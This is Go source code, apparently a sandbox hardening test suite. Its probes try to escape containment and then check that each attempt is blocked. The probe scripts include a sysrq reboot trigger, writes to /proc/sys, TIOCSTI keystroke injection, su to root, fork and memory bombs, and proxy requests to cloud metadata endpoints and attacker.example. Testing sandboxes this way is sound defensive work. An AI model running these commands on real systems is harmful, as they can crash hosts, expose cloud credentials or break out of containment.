		{name: "mknod-devices", threat: "SBX-02", what: "create char, block and whiteout device nodes; raw mknodat with FIFO and device types",
			script: `for spec in "null2 c 1 3" "disk b 8 0" "whiteout c 0 0" "/tmp/null3 c 1 3" "/tmp/disk2 b 8 0"; do set -- $spec; mknod "$1" "$2" "$3" "$4" 2>/dev/null && echo "ESCAPED: mknod $spec"; done; ` +
				denied(sysArg("mknodat-fifo", unix.SYS_MKNODAT, 0, 0, unix.S_IFIFO|0o644, 0), sysArg("mknodat-char", unix.SYS_MKNODAT, 0, 0, unix.S_IFCHR|0o644, 0x103),
					sysArg("mknodat-block", unix.SYS_MKNODAT, 0, 0, unix.S_IFBLK|0o644, 0x800), sysArg("mknodat-fifo-high-bits", unix.SYS_MKNODAT, 0, 0, 1<<32|1<<16|unix.S_IFIFO|0o644, 0)),
			check: func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
		{name: "kernel-interfaces", threat: "SBX-02", what: "write /proc/sys, sysrq or cgroup files",
			script: `echo evil > /proc/sys/kernel/hostname 2>/dev/null && echo "ESCAPED: hostname sysctl"; echo b > /proc/sysrq-trigger 2>/dev/null && echo "ESCAPED: sysrq"; echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo "ESCAPED: drop_caches"; [ -d /sys/fs/cgroup ] && echo "ESCAPED: cgroupfs visible"; echo CONTAINED`},
		{name: "io-uring", threat: "SBX-02", what: "set up io_uring (bypasses syscall filtering)",
			script: denied(sysArg("io_uring_setup", unix.SYS_IO_URING_SETUP, 8, 0), sysArg("io_uring_enter", unix.SYS_IO_URING_ENTER, 0, 0, 0, 0, 0, 0), sysArg("io_uring_register", unix.SYS_IO_URING_REGISTER, 0, 0, 0, 0))},
		{name: "kernel-syscalls", threat: "SBX-02", what: "bpf, perf, keyrings, userfaultfd, modules, kexec, reboot, swap",
			script: denied(sysArg("bpf", unix.SYS_BPF, 0, 0, 0), sysArg("perf_event_open", unix.SYS_PERF_EVENT_OPEN, 0, 0, 0, 0, 0),
				sysArg("keyctl", unix.SYS_KEYCTL, 0, 0), sysArg("add_key", unix.SYS_ADD_KEY, 0, 0, 0, 0, 0), sysArg("request_key", unix.SYS_REQUEST_KEY, 0, 0, 0, 0),
				sysArg("userfaultfd", unix.SYS_USERFAULTFD, 0), sysArg("init_module", unix.SYS_INIT_MODULE, 0, 0, 0), sysArg("finit_module", unix.SYS_FINIT_MODULE, 0, 0, 0),
				sysArg("delete_module", unix.SYS_DELETE_MODULE, 0, 0), sysArg("kexec_load", unix.SYS_KEXEC_LOAD, 0, 0, 0, 0), sysArg("reboot", unix.SYS_REBOOT, 0, 0, 0, 0),
				sysArg("swapon", unix.SYS_SWAPON, 0, 0), sysArg("open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, 0, 0, 0), sysArg("syslog", unix.SYS_SYSLOG, 3, 0, 0))},
		{name: "tiocsti", threat: "SBX-09", what: "inject keystrokes or change a terminal (TIOCSTI, TIOCLINUX, TIOCSETD)",
			script: `python3 -c '
import ctypes, errno, fcntl, os, pty, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
bad = 0
m, s = pty.openpty()
for fd, name in [(s, "pty slave"), (0, "stdin"), (os.open("/dev/null", os.O_RDWR), "dev/null")]:
    for cmd, cname in [(0x5412, "TIOCSTI"), (0x100005412, "TIOCSTI high bits"), (0x541C, "TIOCLINUX"), (0x5423, "TIOCSETD"), (0x541D, "TIOCCONS")]:
        ctypes.set_errno(0)
        r = libc.ioctl(fd, cmd, b"x")
        e = ctypes.get_errno()
        print(name, cname, r, errno.errorcode.get(e, e))
        if r != -1 or e != errno.EPERM:
            print("ESCAPED: %s on %s not refused by the filter" % (cname, name)); bad = 1
print("CONTAINED" if not bad else "FAILED")'`},
		{name: "setuid-binaries", threat: "SBX-02", what: "gain root through a setuid program (su)",
			script: `su root -c 'echo ESCAPED: su ran as root' </dev/null 2>&1 | head -2; grep -q '^CapEff:[[:space:]]*0000000000000000' /proc/self/status && echo CONTAINED`},

		// SBX-06: resource bombs.
		{name: "fork-bomb", threat: "SBX-06", what: "start 300 processes under a limit of 32",
			config: func(_ *probeEnv, c *Config) { c.Pids, c.Timeout = 32, 15*time.Second },
			script: `python3 -c '
import os, time
kids = 0
for i in range(300):
    try:
        pid = os.fork()
    except OSError as e:
        print("fork refused after", kids, "children:", e); break
    if pid == 0:
        time.sleep(3); os._exit(0)
    kids += 1
n = len([p for p in os.listdir("/proc") if p.isdigit()])
print(n, "processes")
print("CONTAINED" if n <= 32 else "ESCAPED: %d processes" % n)'`},
		{name: "memory-bomb", threat: "SBX-06", what: "allocate 1 GiB, or 200 MiB across 5 processes, under 96 MiB",
			config: func(_ *probeEnv, c *Config) { c.Memory = 96 << 20 },
			script: `python3 -c 'b = bytearray(1 << 30); b[::4096] = b"x" * (len(b) // 4096); print("ALLOCATED")' 2>&1 | tail -1; python3 -c '
import os, time
for i in range(5):
    if os.fork() == 0:
        b = bytearray(40 << 20); b[::4096] = b"x" * len(b[::4096]); time.sleep(1); os._exit(0)
print("tree of 200 MiB:", "ALLOCATED" if all(os.wait()[1] == 0 for _ in range(5)) else "killed")'; head -c 300000000 /dev/zero > /tmp/fill 2>/dev/null; s=$(stat -c %s /tmp/fill); echo "tmp file $s bytes"; rm -f /tmp/fill; [ "$s" -le 50331648 ] && echo CONTAINED`,
			check: func(_ *probeEnv, _ string, res *Result, out string) error {
				if strings.Contains(out, "ALLOCATED") {
					return errors.New("more than the 96 MiB limit was allocated (one process or a tree)")
				}
				if !res.OOMKilled {
					return errors.New("the memory cgroup did not act on a 200 MiB tree")
				}
				return nil
			}},
		{name: "output-flood", threat: "SBX-06", what: "write 50 MB to stdout under a 64 KiB cap",
			config:   func(_ *probeEnv, c *Config) { c.MaxOutput = 64 << 10 },
			noMarker: true,
			script:   `head -c 50000000 /dev/zero | tr '\0' 'y'; echo; echo CONTAINED`,
			check: func(_ *probeEnv, _ string, res *Result, out string) error {
				if !res.OutputTruncated || len(out) > 64<<10+200 {
					return fmt.Errorf("output not capped: truncated=%v, %d bytes", res.OutputTruncated, len(out))
				}
				return nil
			}},
		{name: "timeout-tree", threat: "SBX-06", what: "outlive the timeout with a background process",
			config:   func(_ *probeEnv, c *Config) { c.Timeout = 500 * time.Millisecond },
			noMarker: true,
			script:   `(sleep 60; echo ESCAPED) & sleep 60`,
			check: func(env *probeEnv, _ string, res *Result, out string) error {
				if !res.TimedOut || res.Duration > 5*time.Second {
					return fmt.Errorf("not killed at the timeout: timed out=%v after %v", res.TimedOut, res.Duration)
				}
				if left := env.processesLeft(); len(left) > 0 {
					return fmt.Errorf("processes left behind: %v", left)
				}
				return nil
			}},
		{name: "cpu-limit", threat: "SBX-06", what: "spin past a 1 s CPU limit",
			config:   func(_ *probeEnv, c *Config) { c.CPU, c.Timeout = time.Second, 20*time.Second },
			noMarker: true,
			script:   `while :; do :; done`,
			check: func(_ *probeEnv, _ string, res *Result, out string) error {
				if res.TimedOut || res.Signal == "" {
					return fmt.Errorf("not stopped by the CPU limit: signal %q, timed out %v, %v", res.Signal, res.TimedOut, res.Duration)
				}
				return nil
			}},
	}
}

// allProbes is the full suite on this machine's architecture.
func allProbes() []probe {
	list := append(baseProbes(), archProbes()...)
	return append(list, proxyProbes()...)
}

// proxyProbes try to get past the egress proxy that --allow-net sets up.
func proxyProbes() []probe {
	return []probe{
		{name: "proxy-escape", threat: "SBX-04/05", what: "use the egress proxy to reach loopback, metadata, the host or unlisted hosts",
			config: func(_ *probeEnv, c *Config) { c.AllowNet = []string{"example.com"} },
			script: `python3 -c '
import os, socket
P = os.environ["HOST_PORT"]; H = os.environ.get("HOST_IP") or "10.0.0.1"
def req(head):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(head.encode() + b"\r\n\r\n")
    return s.recv(300).decode(errors="replace").split("\r\n")[0]
answered = 0
for head in ["CONNECT 127.0.0.1:%s HTTP/1.1\r\nHost: 127.0.0.1:%s" % (P, P),
             "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254",
             "GET http://metadata.google.internal/ HTTP/1.1\r\nHost: metadata.google.internal",
             "CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s" % (H, P, H, P),
             "GET http://[::1]:%s/ HTTP/1.1\r\nHost: [::1]:%s" % (P, P),
             "GET http://2130706433:%s/ HTTP/1.1\r\nHost: 2130706433:%s" % (P, P),
             "CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443",
             "GET http://127.0.0.1:3128/ HTTP/1.1\r\nHost: 127.0.0.1:3128"]:
    status = req(head)
    print(head.split("\r\n")[0], "->", status)
    if status.startswith("HTTP/1."): answered += 1
    if " 200" in status: print("ESCAPED: the proxy allowed", head.split()[1])
try:
    socket.create_connection(("127.0.0.1", int(P)), timeout=2); print("ESCAPED: direct connection")
except OSError as e: print("direct:", e)
for k in ["HTTP_PROXY", "HTTPS_PROXY"]:
    print(k, os.environ.get(k))
print("CONTAINED" if answered == 8 and os.environ.get("HTTPS_PROXY") else "FAILED: the proxy did not answer")'`,
			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
				if n := env.accepts.Load(); n > 0 {
					return fmt.Errorf("the host listener accepted %d connection(s)", n)
				}
				return nil
			}},
	}
}
